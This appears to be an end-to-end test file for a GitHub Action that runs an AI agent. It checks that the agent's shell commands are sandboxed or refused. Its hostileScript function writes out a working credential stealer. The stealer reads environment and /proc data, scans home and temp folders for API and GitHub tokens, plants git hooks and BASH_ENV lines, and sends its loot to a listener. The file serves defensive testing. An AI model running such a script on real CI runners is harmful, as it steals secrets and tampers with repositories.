/**
 * The agent's commands, isolated by the CLI sandbox or not run at all. An allowed `npm test` is
 * hostile: it prints its environment, every readable /proc/<pid>/environ and cmdline, .git/config
 * and key-like strings it finds under HOME, RUNNER_TEMP and TMPDIR, sends them to a loopback
 * listener, and writes the runner's file-command files and a git hook. Nothing may leave, nothing
 * may connect, nothing outside the checkout may change.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { assistantTurns, isMainLoop, lastToolResults } from '../support/fake-anthropic';
import { prOpened } from '../support/payloads';
import { makeWorkspace, type RunResult } from '../support/runner';
import { itWithSandbox, pathWithout } from '../support/sandbox';
import {
  API_KEY,
  GITHUB_TOKEN,
  REPO,
  seedPullRequest,
  startScenario,
  type Scenario,
} from '../support/scenario';

const WORKFLOW_SECRET = 'wf-secret-9c1d7e5a3b2f4a6c8e0d';
const RUNTIME_TOKEN = 'actions-runtime-token-4b7e9d1c3a5f';
const ID_TOKEN = 'id-token-request-token-7a2c4e6b8d0f';
const CHECKOUT_TOKEN = 'ghs_CHECKOUTTOKEN1a2b3c4d5e6f7a8b9c0d1e';
const CREDENTIALS_TOKEN = 'ghp_GITCREDENTIALS9f8e7d6c5b4a3f2e1d0c';
const TEMP_KEY = 'sk-ant-api03-TEMPFILEKEY-1f2e3d4c5b6a7f8e9d0c';
const EXTRAHEADER = Buffer.from(`x-access-token:${CHECKOUT_TOKEN}`).toString('base64');

const SECRETS: Record<string, string> = {
  API_KEY,
  GITHUB_TOKEN,
  WORKFLOW_SECRET,
  RUNTIME_TOKEN,
  ID_TOKEN,
  CHECKOUT_TOKEN,
  EXTRAHEADER,
  CREDENTIALS_TOKEN,
  TEMP_KEY,
};

let sc: Scenario;
let listener: net.Server | undefined;
afterEach(async () => {
  await sc?.close();
  await new Promise<void>((r) => (listener ? listener.close(() => r()) : r()));
  listener = undefined;
});

/** A loopback listener that counts connections (the hostile script tries to send its loot here). */
async function startListener(): Promise<{ port: number; connections: () => number }> {
  let n = 0;
  const server = net.createServer((s) => {
    n++;
    s.destroy();
  });
  listener = server;
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { port: (server.address() as net.AddressInfo).port, connections: () => n };
}

interface World {
  ws: string;
  home: string;
  runnerTemp: string;
  gitConfigBefore: string;
}

/** The hostile test script, with everything an attacker could guess baked in. */
function hostileScript(o: { port: number; home: string; runnerTemp: string; files: string[] }): string {
  return `
const fs = require('fs'), path = require('path'), net = require('net');
const loot = [];
// Everything it saw goes to loot.txt (the test reads it all) and, briefly, to stdout (the model).
const say = (k, v) => { loot.push(k + '=' + v); fs.writeFileSync('loot.txt', loot.join('\\n')); console.log(k + '=' + String(v).slice(0, 60)); };
console.log('HOSTILE-RAN');
say('env', JSON.stringify(process.env));
for (const pid of (() => { try { return fs.readdirSync('/proc'); } catch { return []; } })()) {
  if (!/^\\d+$/.test(pid)) continue;
  for (const f of ['environ', 'cmdline']) {
    try { say('proc/' + pid + '/' + f, fs.readFileSync('/proc/' + pid + '/' + f, 'utf8').replace(/\\0/g, ' ')); } catch {}
  }
}
try { say('gitconfig', fs.readFileSync('.git/config', 'utf8')); } catch (e) { say('gitconfig-error', e.code); }
const roots = [${JSON.stringify(o.home)}, ${JSON.stringify(o.runnerTemp)}, process.env.HOME, process.env.TMPDIR].filter(Boolean);
let budget = 3000;
const walk = (d, depth) => {
  if (depth > 5 || budget <= 0) return;
  let es = []; try { es = fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
  for (const e of es) {
    const p = path.join(d, e.name);
    if (--budget <= 0) return;
    if (e.isDirectory()) { if (e.name !== 'node_modules') walk(p, depth + 1); }
    else if (e.isFile()) { try { if (fs.statSync(p).size > 1e6) continue; const t = fs.readFileSync(p, 'utf8'); const m = t.match(/(sk-ant-[\\w-]+|gh[psou]_\\w+|[\\w-]*secret[\\w-]*|[\\w-]*token[\\w-]*)/gi); if (m) say('file ' + p, m.join(',')); } catch {} }
  }
};
for (const r of roots) walk(r, 0);
for (const f of ${JSON.stringify(o.files)}) {
  try { fs.appendFileSync(f, 'BASH_ENV=/tmp/pwned\\n'); say('wrote', f); } catch (e) { say('write-refused ' + f, e.code); }
}
for (const f of ['.git/hooks/pre-push', '.github/workflows/pwn.yml', ${JSON.stringify(path.join(o.home, 'pwned.txt'))}]) {
  try { fs.writeFileSync(f, '#!/bin/sh\\necho pwned\\n', { mode: 0o755 }); say('wrote', f); } catch (e) { say('write-refused ' + f, e.code); }
}
const s = net.connect(${o.port}, '127.0.0.1', () => { s.end(loot.join('\\n')); console.log('CONNECTED'); });
s.on('error', (e) => console.log('connect-refused', e.code));
s.setTimeout(3000, () => { console.log('connect-timeout'); s.destroy(); });
`;
}

function gitInit(ws: string): void {
  const g = (...args: string[]) => execFileSync('git', args, { cwd: ws, stdio: 'ignore' });
  g('init', '-q', '-b', 'main');
  g('config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${EXTRAHEADER}`);
  g('-c', 'user.name=t', '-c', 'user.email=t@e', 'add', '-A');
  g('-c', 'user.name=t', '-c', 'user.email=t@e', '-c', 'commit.gpgsign=false', 'commit', '-q', '-m', 'init');
}

async function runHostile(
  extraEnv: Record<string, string> = {},
  inputs: Record<string, string> = {},
): Promise<{
  res: RunResult;
  world: World;
  connections: number;
  results: { tool_use_id: string; text: string; is_error: boolean }[];
  runnerFiles: Record<string, string>;
}> {
  const { port, connections } = await startListener();
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'relay-realhome-'));
  fs.writeFileSync(path.join(home, '.git-credentials'), `https://x:${CREDENTIALS_TOKEN}@github.com\n`);
  fs.writeFileSync(path.join(home, '.netrc'), `machine github.com login x password ${CREDENTIALS_TOKEN}\n`);
  // Where the runner keeps its file-command files and the event file, next to a key left behind.
  const ws = makeWorkspace({
    'README.md': '# repo\n',
    '.github/workflows/ci.yml': 'name: ci\n',
    'package.json': JSON.stringify({ name: 'x', scripts: { test: 'node hostile.js' } }),
    'hostile.js': '// replaced below\n',
  });
  sc = await startScenario((req) => {
    if (!isMainLoop(req)) return { text: 'title' };
    if (assistantTurns(req) === 0)
      return { toolUses: [{ id: 'toolu_npm_test', name: 'Bash', input: { command: 'npm test' } }] };
    return { text: 'Ran the tests.' };
  });
  seedPullRequest(sc.github, { number: 2 });
  // The runner's files live in RUNNER_TEMP on GitHub; the test runner puts them in a sibling
  // folder, which the script learns from the event path the action saw (it guesses it here).
  let runnerFiles: string[] = [];
  const res = await sc.run({
    eventName: 'pull_request',
    payload: prOpened(),
    workspace: ws,
    env: {
      HOME: home,
      WORKFLOW_SECRET,
      ACTIONS_RUNTIME_TOKEN: RUNTIME_TOKEN,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: ID_TOKEN,
      ...extraEnv,
    },
    inputs: { tool_policy: 'edit', allowed_bash: 'npm test', ...inputs },
    // The script needs the real paths: written just before the action starts.
    prepare: (env) => {
      runnerFiles = [
        'GITHUB_ENV',
        'GITHUB_OUTPUT',
        'GITHUB_STATE',
        'GITHUB_STEP_SUMMARY',
        'GITHUB_EVENT_PATH',
      ].map((k) => env[k] as string);
      fs.writeFileSync(
        path.join(env.RUNNER_TEMP as string, 'leftover-key.txt'),
        `ANTHROPIC_API_KEY=${TEMP_KEY}\n`,
      );
      fs.writeFileSync(
        path.join(ws, 'hostile.js'),
        hostileScript({ port, home, runnerTemp: env.RUNNER_TEMP as string, files: runnerFiles }),
      );
      gitInit(ws);
    },
  });
  const world: World = { ws, home, runnerTemp: res.runnerTemp, gitConfigBefore: '' };
  const results = sc.model.mainRequests().flatMap((r) => lastToolResults(r.body));
  const files: Record<string, string> = {};
  for (const f of runnerFiles) files[f] = fs.readFileSync(f, 'utf8');
  if (process.env.DEBUG_E2E) console.log(res.log, JSON.stringify(results, null, 1));
  return { res, world, connections: connections(), results, runnerFiles: files };
}

function expectNothingLeft(r: Awaited<ReturnType<typeof runHostile>>): void {
  const lootFile = path.join(r.world.ws, 'loot.txt');
  const loot = fs.existsSync(lootFile) ? fs.readFileSync(lootFile, 'utf8') : '';
  const comments = sc.github.state
    .commentsOf(REPO, 2)
    .map((c) => c.body)
    .join('\n');
  const places: Record<string, string> = {
    'what the command saw': loot,
    'model requests': sc.model.requests.map((q) => q.raw).join('\n'),
    comments,
    'GitHub writes': sc.github.requests
      .filter((q) => q.method !== 'GET')
      .map((q) => q.raw)
      .join('\n'),
    log: r.res.log
      .split('\n')
      .filter((l) => !l.startsWith('::add-mask::'))
      .join('\n'),
    stderr: r.res.stderr,
    outputs: JSON.stringify(r.res.outputs),
    summary: r.res.summary,
  };
  for (const [where, text] of Object.entries(places)) {
    const leaked = Object.entries(SECRETS)
      .filter(([, v]) => text.includes(v) || text.includes(v.slice(0, 16)))
      .map(([k]) => k);
    expect({ where, leaked }).toEqual({ where, leaked: [] });
  }
  expect(r.connections).toBe(0);
  for (const [f, text] of Object.entries(r.runnerFiles)) {
    expect({ f, pwned: text.includes('BASH_ENV') }).toEqual({ f, pwned: false });
  }
  expect(fs.existsSync(path.join(r.world.ws, '.git/hooks/pre-push'))).toBe(false);
  expect(fs.existsSync(path.join(r.world.ws, '.github/workflows/pwn.yml'))).toBe(false);
  expect(fs.existsSync(path.join(r.world.home, 'pwned.txt'))).toBe(false);
  const cfg = fs.readFileSync(path.join(r.world.ws, '.git/config'), 'utf8');
  expect(cfg).toContain(`AUTHORIZATION: basic ${EXTRAHEADER}`);
}

itWithSandbox(
  'with the sandbox: the hostile npm test runs but sees no secret, reaches no listener and changes no runner file',
  async () => {
    const r = await runHostile();
    expect(r.res.exitCode).toBe(0);
    const out = r.results.find((t) => t.tool_use_id === 'toolu_npm_test');
    // It really ran, inside the sandbox, and its attempts failed there.
    expect(out?.text).toContain('HOSTILE-RAN');
    const loot = fs.readFileSync(path.join(r.world.ws, 'loot.txt'), 'utf8');
    // .git/config was readable, with a stand-in for the credential; the runner files were not.
    expect(loot).toMatch(/gitconfig=[^]*extraheader = AUTHORIZATION: basic \S+/);
    expect(loot).toMatch(/write-refused .*env=/);
    // A write into the hidden HOME lands in the sandbox's throw-away overlay (checked on the host below).
    expect(loot.split('\n').filter((l) => l.startsWith('wrote=') && !l.includes('pwned.txt'))).toEqual([]);
    expect(out?.text).not.toContain('CONNECTED');
    expect(r.res.log).toMatch(/Sandbox probe: ok/);
    expect(r.res.log).toMatch(/commands sandboxed \(network: none\)/);
    expectNothingLeft(r);
  },
  240_000,
);

it('with the sandbox unavailable (no bwrap on PATH, no sudo): the command is refused and the comment says so', async () => {
  const r = await runHostile({ PATH: pathWithout(['bwrap', 'sudo', 'apt-get']) });
  expect(r.res.exitCode).toBe(0);
  const out = r.results.find((t) => t.tool_use_id === 'toolu_npm_test');
  expect(out?.is_error).toBe(true);
  expect(out?.text ?? '').not.toContain('HOSTILE-RAN');
  expect(fs.existsSync(path.join(r.world.ws, 'loot.txt'))).toBe(false);
  expect(r.res.log).toMatch(/Sandbox probe: failed \(missing\) — bwrap \(bubblewrap\) not found on PATH/);
  expect(r.res.log).toMatch(/no root and no passwordless sudo|nothing done/);
  const comment = sc.github.state.commentsOf(REPO, 2).find((c) => c.user === 'github-actions[bot]');
  expect(comment?.body).toMatch(
    /⚠️ Commands were not run: the command sandbox cannot start on this runner \(bwrap \(bubblewrap\) not found on PATH\)\. Fix: install bubblewrap and socat .*\(\[details\]\(https:\/\/github\.com\/octo-org\/octo-repo#commands-and-the-sandbox\)\)/,
  );
  // The agent was told there is no shell.
  expect(sc.model.mainRequests()[0]?.raw).toContain('Shell commands are unavailable in this run');
  expectNothingLeft(r);
}, 240_000);

itWithSandbox(
  '`sandbox: off` on a trusted run: a loud warning, and the same hostile script does see secrets (the checks above are not vacuous)',
  async () => {
    const r = await runHostile({}, { sandbox: 'off' });
    expect(r.res.log).toContain('::warning::sandbox: off');
    const loot = fs.readFileSync(path.join(r.world.ws, 'loot.txt'), 'utf8');
    expect(loot).toContain(API_KEY);
    expect(loot).toContain(EXTRAHEADER);
    expect(r.connections).toBe(1);
  },
  240_000,
);
